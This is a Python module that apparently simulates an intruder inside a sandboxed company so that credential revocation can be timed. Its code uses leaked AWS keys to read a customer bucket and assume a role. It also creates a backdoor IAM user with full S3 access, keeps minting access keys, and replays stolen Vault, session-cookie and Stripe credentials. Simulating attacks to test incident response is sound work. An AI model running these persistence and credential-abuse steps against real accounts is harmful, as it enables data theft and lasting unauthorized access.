"""
Intruder: uses what leaked, and all that it opens, from the first second until every door is shut, and keeps count.

It does what intruders do: reads the customers, takes a role, makes a user with a key of its own to come back by. Each
door is tried by a thread of its own about eight times a second. Whether a call got through is what the other side did,
as nobody but the intruder can tell.
"""

import threading
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack
from dataclasses import dataclass, field
from typing import Any

import httpx
from botocore.exceptions import BotoCoreError, ClientError

from crisis.sandbox.company.account import BUCKET, CUSTOMERS, LEAKED, ROLE, AwsKey, client

__all__ = ["Door", "Intruder"]

_PAUSE = 0.12
_STRANGER = "support-sync"
_ALL_OF_S3 = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:*","Resource":"*"}]}'


@dataclass
class Door:
    """One way in: when calls got through it and when they were refused, as times of the monotonic clock."""

    name: str
    use: Callable[[], bool] = field(repr=False)
    through: list[float] = field(default_factory=list, repr=False)
    refused: list[float] = field(default_factory=list, repr=False)

    def knock(self) -> None:
        """Try it once. A server that does not answer lets nobody in, and proves nothing."""
        began = time.monotonic()
        try:
            opened = self.use()
        except (httpx.HTTPError, BotoCoreError):
            return
        (self.through if opened else self.refused).append(time.monotonic() if opened else began)

    def managed_since(self, since: float) -> int:
        """Count the calls that got through since a moment."""
        return sum(one >= since for one in self.through)

    @property
    def shut_at(self) -> float | None:
        """The first refusal after which no call got through; None while it is open."""
        last = self.through[-1] if self.through else 0.0
        return next((one for one in self.refused if one >= last), None)


class Intruder:
    """Whoever found the key."""

    def __init__(self, loot: Mapping[str, str]) -> None:
        self._loot = loot
        self._leaked = AwsKey(loot["aws_id"], loot["aws_secret"])
        self.doors: list[Door] = []
        self.secrets: dict[str, str] = {}
        """What it made for itself, by what it is."""
        self._over = threading.Event()
        self._web = ExitStack()
        self._threads: list[threading.Thread] = []

    def break_in(self) -> None:
        """Open the doors, and go on trying them."""
        self.doors = list(self._ways_in())
        for door in self.doors:
            thread = threading.Thread(target=self._haunt, args=(door,), name="intruder", daemon=True)
            thread.start()
            self._threads.append(thread)

    def give_up(self) -> None:
        """Try nothing any more."""
        self._over.set()
        for thread in self._threads:
            thread.join()
        self._web.close()

    @property
    def of_the_leaked_key(self) -> Door:
        """The door that the leaked key itself opens."""
        return self.doors[0]

    def has_knocked_since(self, since: float) -> bool:
        """Whether every door was tried after a moment, so that what is said of it holds for that moment."""
        return all(max([*door.through[-1:], *door.refused[-1:], 0.0]) > since for door in self.doors)

    def _haunt(self, door: Door) -> None:
        while not self._over.wait(_PAUSE):
            door.knock()

    def _ways_in(self) -> Iterator[Door]:
        loot = self._loot
        yield Door("the leaked AWS key", self._reads_customers(self._leaked))
        role = self._aws("sts", self._leaked).assume_role(
            RoleArn=f"arn:aws:iam::123456789012:role/{ROLE}", RoleSessionName="nightly"
        )["Credentials"]
        lent = AwsKey(role["AccessKeyId"], role["SecretAccessKey"], role["SessionToken"])
        self.secrets |= {"role session": lent.secret, "role session's token": str(lent.token)}
        yield Door(f"a session of the role {ROLE}", self._reads_customers(lent))
        yield Door(f"its own user {_STRANGER}", self._reads_customers(self._come_back()))
        yield Door("new keys that it makes", self._makes_keys())
        vault = self._asks(f"{loot['vault_url']}/v1/auth/token/lookup-self", {"X-Vault-Token": loot["vault_token"]})
        yield Door("a Vault token from the backup", vault)
        cookie = {"Cookie": f"sid={loot['cookie']}"}
        yield Door("a member's session", self._asks(f"{loot['members_url']}/account", cookie))
        stripe = {"Authorization": f"Bearer {loot['stripe_key']}"}
        yield Door("a payment key", self._asks(f"{loot['stripe_url']}/v1/balance", stripe))

    def _reads_customers(self, key: AwsKey) -> Callable[[], bool]:
        s3 = self._aws("s3", key)
        return lambda: _got_through(lambda: s3.get_object(Bucket=BUCKET, Key=CUSTOMERS))

    def _aws(self, service: str, key: AwsKey) -> Any:
        """Open a client of AWS that is closed with everything else."""
        made = client(self._loot["aws_url"], service, key)
        self._web.callback(made.close)
        return made

    def _asks(self, url: str, headers: Mapping[str, str]) -> Callable[[], bool]:
        web = self._web.enter_context(httpx.Client(trust_env=False, timeout=10, headers=dict(headers)))
        return lambda: web.get(url).status_code == httpx.codes.OK

    def _come_back(self) -> AwsKey:
        iam = self._aws("iam", self._leaked)
        iam.create_user(UserName=_STRANGER)
        iam.put_user_policy(UserName=_STRANGER, PolicyName="sync", PolicyDocument=_ALL_OF_S3)
        made = iam.create_access_key(UserName=_STRANGER)["AccessKey"]
        self.secrets["stranger's key"] = str(made["SecretAccessKey"])
        return AwsKey(made["AccessKeyId"], made["SecretAccessKey"])

    def _makes_keys(self) -> Callable[[], bool]:
        """Make one more key for itself where there is room for one; without room, that it may still make users."""
        iam = self._aws("iam", self._leaked)

        def make() -> bool:
            try:
                made = iam.create_access_key(UserName=LEAKED)["AccessKey"]
            except ClientError as error:
                return str(error.response["Error"]["Code"]) == "LimitExceeded"
            self.secrets[f"minted key {made['AccessKeyId']}"] = str(made["SecretAccessKey"])
            return True

        return make


def _got_through(call: Callable[[], Any]) -> bool:
    try:
        call()
    except ClientError:
        return False
    return True
